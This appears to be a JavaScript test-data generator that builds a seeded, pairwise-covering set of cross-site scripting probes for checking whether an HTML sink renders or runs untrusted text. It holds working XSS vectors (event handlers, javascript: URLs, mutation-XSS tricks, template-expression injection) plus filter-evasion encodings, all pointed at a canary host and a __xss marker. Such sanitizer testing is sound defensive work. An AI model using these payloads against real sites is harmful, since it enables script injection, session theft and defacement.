// Texts that would run, load or become an element if any sink took them for markup: places to break out of × vectors × ways to write them,
// chosen so that each pair of the three stands in some text. Each carries its number three times over: the word mjx<N>z that tells that it was
// shown, an element with data-mjx that tells that it became markup, a call of __xss or a load from the canary that tells that it ran.
export const canary = 'canary.invalid';

// A seeded sequence (mulberry32): the same seed gives the same texts everywhere.
export function sequence(seed) {
  let state = seed >>> 0;
  return (below) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) % below;
  };
}

// What a value may stand in: what ends that place.
const places = [
  ['text', ''], ['double-quoted attribute', '">'], ['single-quoted attribute', "'>"], ['bare attribute', ' >'], ['attribute of an attribute', '" '], ['attribute in single quotes', "' "],
  ['string of a script', "';"], ['string of a script, double', '";'], ['script', '</script>'], ['template string', '`;'], ['comment', '-->'], ['comment, bang', '--!>'], ['title', '</title>'],
  ['textarea', '</textarea>'], ['style', '}</style>'], ['noscript', '</noscript>'], ['template', '</template>'], ['select', '</option></select>'], ['table', '</td></tr></table>'],
  ['drawing', '</text></svg>'], ['frame', '</iframe>'], ['cdata', ']]>'], ['link', '</a>'], ['line', '\n'],
];

const ran = (n) => `__xss(${n})`;
const away = (n, tail = '') => `//${canary}/${n}${tail}`;
// [name, text of it]; `at` marks the element.
const vectors = [
  ['script', (n, at) => `<script ${at}>${ran(n)}</script>`],
  ['script from elsewhere', (n, at) => `<script ${at} src=${away(n, '.js')}></script>`],
  ['picture that fails', (n, at) => `<img ${at} src=x onerror=${ran(n)}>`],
  ['picture from elsewhere', (n, at) => `<img ${at} src="${away(n, '.png')}">`],
  ['drawing that loads', (n, at) => `<svg ${at} onload=${ran(n)}></svg>`],
  ['animation', (n, at) => `<svg><animate ${at} onbegin=${ran(n)} attributeName=x dur=1s></svg>`],
  ['script in a drawing', (n, at) => `<svg><script ${at} href="data:,${ran(n)}"></script></svg>`],
  ['foreign object', (n, at) => `<svg><foreignObject><iframe ${at} src="javascript:parent.${ran(n)}"></iframe></foreignObject></svg>`],
  ['frame with a page', (n, at) => `<iframe ${at} srcdoc="<script>parent.${ran(n)}</script>"></iframe>`],
  ['frame with a script', (n, at) => `<iframe ${at} src="javascript:parent.${ran(n)}"></iframe>`],
  ['frame from elsewhere', (n, at) => `<iframe ${at} src="${away(n)}"></iframe>`],
  ['disclosure', (n, at) => `<details ${at} open ontoggle=${ran(n)}>x</details>`],
  ['field with the focus', (n, at) => `<input ${at} autofocus onfocus=${ran(n)}>`],
  ['choice with the focus', (n, at) => `<select ${at} autofocus onfocus=${ran(n)}></select>`],
  ['film', (n, at) => `<video ${at}><source onerror=${ran(n)}></video>`],
  ['sound', (n, at) => `<audio ${at} src=x onerror=${ran(n)}></audio>`],
  ['running text', (n, at) => `<marquee ${at} onstart=${ran(n)}>x</marquee>`],
  ['object', (n, at) => `<object ${at} data="${away(n, '.swf')}"></object>`],
  ['embedded', (n, at) => `<embed ${at} src="${away(n)}">`],
  ['link with a script', (n, at) => `<a ${at} href="javascript:${ran(n)}">mjx${n}z</a>`],
  ['style sheet', (n, at) => `<link ${at} rel=stylesheet href="${away(n, '.css')}">`],
  ['style that loads', (n, at) => `<style ${at}>@import "${away(n, '.css')}";*{background:url(${away(n)})}</style>`],
  ['style of an element', (n, at) => `<p ${at} style="background:url(${away(n)})">x</p>`],
  ['base address', (n, at) => `<base ${at} href="${away(n, '/')}">`],
  ['refresh', (n, at) => `<meta ${at} http-equiv=refresh content="0;url=${away(n)}">`],
  ['policy', (n, at) => `<meta ${at} http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">`],
  ['form that sends away', (n, at) => `<form ${at} action="${away(n)}"><button autofocus>x</button></form>`],
  ['button that sends away', (n, at) => `<button ${at} formaction="javascript:${ran(n)}">x</button>`],
  ['mutation by mathematics', (n, at) => `<math><mtext><table><mglyph><style><!--</style><img ${at} title="--&gt;" src=x onerror=${ran(n)}>`],
  ['mutation by noscript', (n, at) => `<noscript><p title="</noscript><img ${at} src=x onerror=${ran(n)}>">`],
  ['mutation by a template', (n, at) => `<template><svg><style><img ${at} src=x onerror=${ran(n)}></style></svg></template>`],
  ['handler alone', (n, at) => `${at} autofocus tabindex=1 onfocus=${ran(n)} onmouseover=${ran(n)} x=`],
  ['statement', (n) => `${ran(n)}//`],
  ['expression of a frame', (n) => `{{constructor.constructor('${ran(n)}')()}}`],
  ['expression of a template string', (n) => `\${${ran(n)}}`],
  ['expression of another frame', (n) => `{{$el.ownerDocument.defaultView.${ran(n)}}}[[${ran(n)}]]<%=${ran(n)}%>#{${ran(n)}}`],
  ['address', (n) => `javascript:${ran(n)}`],
  ['address of data', (n) => `data:text/html,<script>opener.${ran(n)}</script>`],
  ['section of a template', (n, at) => `{{/ITEMS}}{{>BODY}}<i ${at}>{{#X}}`],
];

const each = (text, change) => [...text].map(change).join('');
const named = { '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&apos;', '&': '&amp;' };
const writings = [
  ['plain', (s) => s],
  ['capitals in turn', (s) => s.replace(/<\/?[a-z]+|\bon[a-z]+|javascript/gi, (word) => each(word, (c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase())))],
  ['slashes for blanks', (s) => s.replace(/(<[a-z]+) /gi, '$1/')],
  ['lines for blanks', (s) => s.replace(/(<[a-z]+) /gi, '$1\n')],
  ['tabulators in the scheme', (s) => s.replace(/javascript:/g, 'java\tscript:')],
  ['entities in the scheme', (s) => s.replace(/javascript:/g, '&#x6a;avascript&colon;')],
  ['entities by name', (s) => s.replace(/[<>"'&]/g, (c) => named[c])],
  ['entities by number', (s) => s.replace(/[<>"']/g, (c) => `&#${c.charCodeAt(0)};`)],
  ['entities by hexadecimal without end', (s) => s.replace(/[<>]/g, (c) => `&#x${c.charCodeAt(0).toString(16)}`)],
  ['entities twice', (s) => s.replace(/[<>"']/g, (c) => `&amp;#${c.charCodeAt(0)};`)],
  ['percent', (s) => encodeURIComponent(s)],
  ['percent twice', (s) => encodeURIComponent(encodeURIComponent(s))],
  ['escapes of a script', (s) => s.replace(/[<>"']/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)],
  ['escapes of bytes', (s) => s.replace(/[<>"']/g, (c) => `\\x${c.charCodeAt(0).toString(16)}`)],
  ['quotes escaped', (s) => s.replace(/["']/g, (c) => `\\${c}`)],
  ['full width', (s) => s.replace(/[<>"'=()]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0))],
  ['UTF-7', (s) => s.replace(/[<>]/g, (c) => (c === '<' ? '+ADw-' : '+AD4-'))],
  ['no quotes', (s) => s.replace(/="([^" ]*)"/g, '=$1')],
  ['grave quotes', (s) => s.replace(/"/g, '`')],
  ['nested', (s) => s.replace(/<(script|img|svg|iframe)/g, '<$1<$1')],
  ['inner end', (s) => s.replace(/<(script|style)/g, '<scr<$1>ipt><$1')],
  ['two openings', (s) => s.replace(/</g, '<<')],
  ['without its last end', (s) => s.replace(/>$/, '')],
  ['no width between', (s) => s.replace(/<([a-z])/gi, '<\u200b$1')],
  ['other sign for less', (s) => s.replace(/</g, '\u2039').replace(/>/g, '\u203a')],
];

// [{n, place, vector, writing, text}], at least `count`, numbered from `first`.
export function payloads(count = 600, seed = 46, first = 1) {
  const next = sequence(seed), out = [];
  const lists = [places, vectors, writings];
  // Each pair of two of the three once before chance decides.
  const open = new Set();
  for (const [a, b] of [[0, 1], [0, 2], [1, 2]]) for (let i = 0; i < lists[a].length; i += 1) for (let k = 0; k < lists[b].length; k += 1) open.add(`${a}.${i} ${b}.${k}`);
  const pairs = (pick) => [[0, 1], [0, 2], [1, 2]].map(([a, b]) => `${a}.${pick[a]} ${b}.${pick[b]}`);
  while (out.length < count || (count >= 600 && open.size > 0)) {
    let best, gained = -1;
    for (let turn = 0; turn < 24; turn += 1) {
      const pick = lists.map((list) => next(list.length));
      const gain = pairs(pick).filter((pair) => open.has(pair)).length;
      if (gain > gained) [best, gained] = [pick, gain];
    }
    for (const pair of pairs(best)) open.delete(pair);
    const n = first + out.length, [place, vector, writing] = best.map((one, i) => lists[i][one]);
    out.push({ n, place: place[0], vector: vector[0], writing: writing[0], text: `mjx${n}z${writing[1](place[1] + vector[1](n, `data-mjx=${n}`))}` });
    if (out.length >= 5000) break;
  }
  return out;
}
